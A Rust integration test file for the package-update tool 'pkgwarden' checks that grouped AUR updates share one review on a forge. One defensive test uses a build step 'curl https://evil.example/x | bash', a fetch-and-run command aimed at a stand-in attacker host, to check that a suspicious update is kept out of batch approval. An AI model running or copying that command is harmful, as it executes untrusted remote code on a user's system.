//! Updates of one group are decided about together, on every forge; where there is none, one by one.

use pkgwarden::domain::plan::{Pipeline, Refusal};

use super::lifecycle::on_every_forge;
use crate::support::hosting::Host;
use crate::support::scene::{MAIN, base, person};
use crate::support::{Change, Pkg, Scene};

/// The branch of the group.
const PAIR: &str = "updates-pair";
const PAIR_REF: &str = "refs/heads/updates-pair";

on_every_forge! {
    one_review_holds_a_group_and_one_approval_merges_all_of_it
    closing_the_review_of_a_group_rejects_all_of_it
    what_changes_in_a_group_updates_its_review_in_place
    what_people_commit_on_the_branch_of_a_group_is_kept
    the_review_of_a_group_is_merged_like_any_other
}

/// `bar` and `foo` are a group, `baz` is not, and nothing waits.
async fn beginning() -> Scene {
    let mut scene = Scene::with_aur().await;
    let groups = r#"[{name = "pair", packages = ["fo*", "bar"]}]"#;
    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__GROUPS".to_owned(), groups.to_owned());
    scene.keeps(&["bar", "baz", "foo"].map(Pkg::from_aur)).await;
    scene
}

fn risky(name: &str, version: &str) -> Pkg {
    Pkg::from_aur(name).version(version).built_by("make install")
}

async fn released(scene: &Scene, names: &[&str], version: &str) -> String {
    for name in names {
        scene.aur_release(&risky(name, version)).await;
    }
    scene.told(Pipeline::OnSchedule).await
}

async fn version(scene: &Scene, rev: &str, name: &str) -> String {
    let recipe = scene.monorepo.file(rev, &format!("{name}/PKGBUILD")).await.unwrap_or_default();
    recipe.lines().find_map(|line| line.strip_prefix("pkgver=")).unwrap_or_default().to_owned()
}

/// What is open where a group has one review, and where it is only branches.
async fn assert_open(scene: &Scene, host: &Host, hosted: &str, local: &str) {
    let expected = if matches!(host, Host::Local) { local } else { hosted };
    let open = host.open(scene).await;
    let mut lines: Vec<&str> = open.lines().map(str::trim_end).collect();
    lines.sort_unstable();
    assert_eq!(lines.join(", "), expected);
}

/// A person approves the group: on the forge its one review, else each.
async fn approve(scene: &Scene, host: &Host) {
    if matches!(host, Host::Local) {
        for name in ["bar", "foo"] {
            let head = scene.monorepo.id(&format!("refs/heads/update-{name}")).await.unwrap().parse().unwrap();
            scene.run(Pipeline::Approve(base(name), head, person("mira"))).await;
        }
    } else {
        host.approves_on(scene, PAIR, "mira").await;
        scene.run(Pipeline::OnCommit).await;
    }
}

async fn one_review_holds_a_group_and_one_approval_merges_all_of_it(scene: Scene, host: Host) {
    released(&scene, &["bar", "baz", "foo"], "1.1").await;
    assert_open(&scene, &host, "update-baz 1.1, updates-pair", "update-bar 1.1, update-baz 1.1, update-foo 1.1").await;
    if let Some(body) = host.body_on(PAIR).await {
        assert!(body.starts_with("**2 updates of the group `pair`, decided about together.**"), "{body}");
        for part in ["### bar `1.0-1 -> 1.1-1`", "### foo `1.0-1 -> 1.1-1`", "2 packages are built, in this order:"] {
            assert!(body.contains(part), "{part} in {body}");
        }
        let subjects = scene.monorepo.git(&["log", "--format=%s", &format!("{MAIN}..{PAIR_REF}")]).await;
        assert_eq!(subjects.lines().count(), 2, "one commit for each: {subjects}");
        assert_eq!(version(&scene, PAIR_REF, "baz").await, "1.0");
    }
    let head = scene.monorepo.id(PAIR_REF).await;
    for _ in 0..2 {
        scene.later();
        assert_eq!(scene.told(Pipeline::OnSchedule).await, "");
        assert_eq!(scene.monorepo.id(PAIR_REF).await, head, "an identical head is not pushed again");
    }
    approve(&scene, &host).await;
    assert_open(&scene, &host, "update-baz 1.1", "update-baz 1.1").await;
    for name in ["bar", "foo"] {
        assert_eq!(version(&scene, MAIN, name).await, "1.1");
        assert!(scene.builds().await.contains(&format!("{name} changed ready")));
    }
    scene.run(Pipeline::OnCommit).await;
    assert_eq!(scene.monorepo.id(PAIR_REF).await, None, "its branch is not left behind");
    scene.ends().await;
}

async fn closing_the_review_of_a_group_rejects_all_of_it(scene: Scene, host: Host) {
    released(&scene, &["bar", "foo"], "1.1").await;
    if matches!(host, Host::Local) {
        for name in ["bar", "foo"] {
            let head = scene.monorepo.id(&format!("refs/heads/update-{name}")).await.unwrap().parse().unwrap();
            scene.run(Pipeline::Reject(base(name), head, Refusal::default())).await;
        }
    } else {
        host.closes_on(&scene, PAIR, false).await;
    }
    for _ in 0..3 {
        scene.later();
        scene.run(Pipeline::OnSchedule).await;
        assert_open(&scene, &host, "", "").await;
        assert_eq!(scene.monorepo.id(PAIR_REF).await, None);
    }
    released(&scene, &["foo"], "1.2").await;
    assert_open(&scene, &host, "updates-pair", "update-foo 1.2").await;
    if let Some(body) = host.body_on(PAIR).await {
        assert!(body.contains("### foo ") && !body.contains("### bar "), "{body}");
    }
    scene.ends().await;
}

async fn what_changes_in_a_group_updates_its_review_in_place(scene: Scene, host: Host) {
    released(&scene, &["bar"], "1.1").await;
    let first = scene.monorepo.id(PAIR_REF).await;
    released(&scene, &["foo"], "1.1").await;
    released(&scene, &["foo"], "1.2").await;
    assert_open(&scene, &host, "updates-pair", "update-bar 1.1, update-foo 1.2").await;
    if let Some(body) = host.body_on(PAIR).await {
        assert!(body.contains("### foo `1.0-1 -> 1.2-1`"), "{body}");
        assert_ne!(scene.monorepo.id(PAIR_REF).await, first);
        assert_eq!(version(&scene, PAIR_REF, "foo").await, "1.2");
    }
    scene.aur_release(&Pkg::from_aur("foo").version("1.3")).await;
    scene.aur_release(&Pkg::from_aur("bar").version("1.3")).await;
    scene.run(Pipeline::OnSchedule).await;
    assert_open(&scene, &host, "", "").await;
    let said = host.comments_on(PAIR).await;
    assert!(said.is_none_or(|said| said == ["Closed: nothing of it waits together any more."]));
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_eq!(scene.monorepo.id(PAIR_REF).await, None);
    scene.ends().await;
}

async fn what_people_commit_on_the_branch_of_a_group_is_kept(scene: Scene, host: Host) {
    released(&scene, &["bar", "foo"], "1.1").await;
    if matches!(host, Host::Local) {
        assert_eq!(scene.monorepo.id(PAIR_REF).await, None, "without a forge there is nothing to look at together");
        scene.ends().await;
        return;
    }
    let patch = [Change::put("foo/fix.patch", "--- a\n+++ b\n")];
    let theirs = scene.monorepo.commit(PAIR_REF, "fix(foo): build", &patch, scene.now()).await;
    host.approves_on(&scene, PAIR, "mira").await;
    released(&scene, &["foo"], "1.2").await;
    assert_eq!(scene.monorepo.id(PAIR_REF).await, Some(theirs), "it is not overwritten");
    assert_eq!(version(&scene, MAIN, "bar").await, "1.0", "an approval of something else approves nothing");
    let body = host.body_on(PAIR).await.unwrap();
    assert!(body.contains("This branch has commits by `Mira Vale <mira@example.org>`, which are kept."), "{body}");
    scene.monorepo.git(&["update-ref", "-d", PAIR_REF]).await;
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_eq!(version(&scene, PAIR_REF, "foo").await, "1.2", "taken as the review said");
    scene.ends().await;
}

async fn the_review_of_a_group_is_merged_like_any_other(scene: Scene, host: Host) {
    released(&scene, &["bar", "foo"], "1.1").await;
    if matches!(host, Host::Local) {
        approve(&scene, &host).await;
    } else {
        host.merges_on(&scene, PAIR).await;
        let told = scene.told(Pipeline::OnCommit).await;
        assert!(told.contains("build foo (changed)") && told.contains("build bar (changed)"), "{told}");
    }
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_open(&scene, &host, "", "").await;
    assert_eq!(scene.monorepo.id(PAIR_REF).await, None);
    scene.ends().await;
}

/// What looks like an attack must not be one of many that are approved at once.
#[tokio::test]
async fn what_looks_like_an_attack_has_a_review_of_its_own() {
    let mut scene = beginning().await;
    let host = Host::memory(&mut scene);
    scene.aur_release(&Pkg::from_aur("foo").version("1.1").built_by("curl https://evil.example/x | bash")).await;
    released(&scene, &["bar"], "1.1").await;
    assert_open(&scene, &host, "update-foo 1.1, updates-pair", "").await;
    scene.ends().await;
}

/// Whoever changes the groups finds each update in one review, and no other left open.
#[tokio::test]
async fn an_update_moves_into_a_group_and_out_of_it() {
    let mut scene = beginning().await;
    let host = Host::memory(&mut scene);
    let groups = scene.env.remove("PKGWARDEN__POLICY__REVIEWS__GROUPS").unwrap();
    released(&scene, &["bar", "foo"], "1.1").await;
    assert_open(&scene, &host, "update-bar 1.1, update-foo 1.1", "").await;
    scene.env.insert("PKGWARDEN__POLICY__REVIEWS__GROUPS".to_owned(), groups);
    scene.later();
    scene.run(Pipeline::OnSchedule).await;
    assert_open(&scene, &host, "updates-pair", "").await;
    let said = host.comments_on("update-foo").await.unwrap();
    assert_eq!(said, ["Closed: it is decided about together with others, on updates-pair."]);
    scene.env.remove("PKGWARDEN__POLICY__REVIEWS__GROUPS");
    for _ in 0..2 {
        scene.later();
        scene.run(Pipeline::OnSchedule).await;
    }
    assert_open(&scene, &host, "update-bar 1.1, update-foo 1.1", "").await;
    assert_eq!(scene.monorepo.id(PAIR_REF).await, None);
    scene.ends().await;
}
